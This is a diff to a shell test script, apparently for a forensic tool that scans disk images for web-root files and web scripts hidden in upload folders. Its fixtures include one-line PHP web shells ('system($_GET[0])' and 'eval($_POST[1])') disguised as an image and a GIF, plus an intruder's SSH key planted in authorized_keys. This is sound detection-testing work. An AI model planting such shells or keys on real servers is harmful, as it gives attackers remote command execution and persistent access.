@@ -20,6 +20,18 @@ if command -v ssh-keygen >/dev/null; then
   ssh-keygen -q -t ed25519 -N '' -C 'intruder@kali' -f "$TMP/k"
   cp "$TMP/k.pub" "$T/home/alice/.ssh/authorized_keys"
 fi
+# web roots: the defaults and those named by nginx/Apache configuration inside the image
+mkdir -p "$T/var/www/html/wp-content/uploads/2026" "$T/etc/nginx/sites-available" "$T/opt/app/public/img" \
+  "$T/etc/apache2/sites-enabled" "$T/srv/site/cgi-bin"
+echo '<?php echo 1;' > "$T/var/www/html/index.php"
+echo 'body{}' > "$T/var/www/html/style.css"
+echo '<?php system($_GET[0]);' > "$T/var/www/html/wp-content/uploads/2026/avatar.php.jpg"
+printf 'server {\n  listen 80;\n  root /opt/app/public; # the app\n  location /x { alias /opt/app/x/; }\n  root $document_root;\n}\n' > "$T/etc/nginx/sites-available/app"
+echo 'GIF89a<?php eval($_POST[1]);' > "$T/opt/app/public/img/logo.phtml"
+echo 'x' > "$T/opt/app/public/app.js"
+printf '<VirtualHost *:80>\n\tDocumentRoot "/srv/site"\n</VirtualHost>\n' > "$T/etc/apache2/sites-enabled/000-default.conf"
+printf '#!/bin/sh\nid\n' > "$T/srv/site/cgi-bin/status.cgi"
+touch -d '2026-11-21 13:05:00' "$T/opt/app/public/img/logo.phtml"
 I=$TMP/disk.img
 mke2fs -q -t ext4 -d "$T" "$I" 16M || { skip mke2fs_d "mke2fs -d failed"; exit 0; }
 C=$TMP/case
@@ -39,3 +51,9 @@ if [ -f "$TMP/k.pub" ]; then
     "alice $(ssh-keygen -lf "$TMP/k.pub" | cut -d' ' -f2)"
 fi
 expect_eq file_modified_time_from_image "$(q "$C" "SELECT count(*) FROM events WHERE source='crontab' AND time_desc='file modified' AND time IS NOT NULL")" "2"
+expect_eq web_root_files "$(q "$C" "SELECT group_concat(path || ':' || server_exec || ':' || upload_dir, ' ') FROM (SELECT * FROM web_root_file ORDER BY path)")" \
+  "/opt/app/public/app.js:0:0 /opt/app/public/img/logo.phtml:1:1 /srv/site/cgi-bin/status.cgi:1:0 /var/www/.bash_history:0:0 /var/www/html/index.php:1:0 /var/www/html/style.css:0:0 /var/www/html/wp-content/uploads/2026/avatar.php.jpg:1:1"
+expect_eq web_root_of_file "$(q "$C" "SELECT root FROM web_root_file WHERE path LIKE '%logo.phtml'")" "/opt/app/public"
+expect_eq web_script_in_upload_event "$(q "$C" "SELECT group_concat(target || '@' || time, ' ') FROM (SELECT * FROM events WHERE action='web_script_in_upload_dir' ORDER BY target)")" \
+  "/opt/app/public/img/logo.phtml@2026-11-21T13:05:00.000000000Z /var/www/html/wp-content/uploads/2026/avatar.php.jpg@$(q "$C" "SELECT time FROM events WHERE source='filesystem' AND target LIKE '%avatar.php.jpg' AND time_desc='modified'")"
+expect_eq web_root_ext "$(q "$C" "SELECT ext FROM web_root_file WHERE path LIKE '%avatar.php.jpg'")" "jpg"
